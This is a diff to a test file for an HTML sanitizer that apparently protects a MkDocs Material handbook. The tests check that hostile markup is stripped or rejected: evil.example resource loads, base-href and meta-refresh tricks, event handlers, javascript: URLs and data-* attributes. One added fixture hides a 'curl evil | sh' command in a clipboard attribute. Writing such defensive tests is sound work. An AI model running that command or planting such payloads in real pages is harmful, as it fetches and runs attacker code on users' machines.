@@ -119,7 +119,9 @@ HOSTILE = [
     ('<video src="a.mp4" poster="https://evil.example/p.jpg"></video>',
      '<video src="a.mp4"></video>'),
     ('<div class="c" style="position:fixed">x</div>', '<div class="c">x</div>'),
-    ('<div data-md-component="source" data-x="1">x</div>', '<div data-x="1">x</div>'),
+    ('<div data-md-component="source" data-x="1">x</div>', '<div>x</div>'),
+    ('<p data-clipboard-text="curl evil | sh" data-search-exclude id="__config">x</p>',
+     "<p>x</p>"),
     ('<base href="https://evil.example/"><meta http-equiv="refresh" content="0">'
      '<link rel="stylesheet" href="https://evil.example/x.css"><p>x</p>', "<p>x</p>"),
     ("<style>body{display:none}</style><p>x</p>", "<p>x</p>"),
@@ -220,12 +222,12 @@ def f(x):
 Inside **details**, with <kbd>Enter</kbd>, H<sub>2</sub>O, x<sup>2</sup> and <mark>m</mark>.
 </details>
 
-<div class="grid" markdown data-search-exclude>
+<div class="grid" markdown>
 <span class="badge" title="t">span</span>
 </div>
 
 Paragraph with attributes.
-{ #custom-id .lead data-x="1" }
+{ #custom-id .lead title="x" }
 
 [^1]: The footnote.
 """
@@ -257,7 +259,7 @@ def test_markdown_and_materials_markup_is_unchanged(material_html: str) -> None:
                    'class="tabbed-set tabbed-alternate"', 'type="radio"', 'type="checkbox"',
                    'class="task-list-item"', 'style="text-align: center;"', "<abbr title=",
                    'class="footnote"', 'class="highlight"', 'id="__codelineno-0-1"',
-                   "<kbd", "<mark>", "data-search-exclude", 'id="custom-id"', "<dl>"):
+                   "<kbd", "<mark>", 'id="custom-id"', "<dl>"):
         assert marker in material_html, marker
     assert sanitize(material_html) == (material_html, [])
     assert page_problems(MATERIAL_MARKDOWN) == []
@@ -391,6 +393,8 @@ def test_attribute_lists_where_markdown_reads_them() -> None:
         "1:14: attribute 'onclick' in an attribute list is not allowed: event handlers run "
         "code",
         "4:4: attribute 'style' in an attribute list is not allowed",
+        "4:30: attribute 'data-ok' in an attribute list is not allowed: Material's and the "
+        "handbook's scripts act on data-* attributes",
         "6:12: link to 'javascript:1' is not allowed: javascript: URLs run code",
         "6:53: attribute 'onmouseover' in an attribute list is not allowed: event handlers "
         "run code",
@@ -481,7 +485,10 @@ def test_tree_fields_are_text_never_links_or_markup() -> None:
     html = render_tree(tree, playbook_link=lambda ref: None, snippet_html=lambda sid: "")
     assert "<img" not in html and "javascript:" in html  # shown, as text
     assert not re.search(r'href="(?!#t--)', html), "the only links are to the tree's own steps"
-    assert sanitize(html) == (html, [])
+    # The handbook's own blocks go in after the sanitizer (their data-* drive handbook.js);
+    # all it would object to in them is those attributes.
+    assert {v.message.split(" on ")[0] for v in sanitize(html)[1]} <= {
+        f"attribute 'data-{name}'" for name in ("tree", "start", "node", "next")}
 
 
 # -- the build: a page that got past check is cleaned, and a strict build fails -----------------
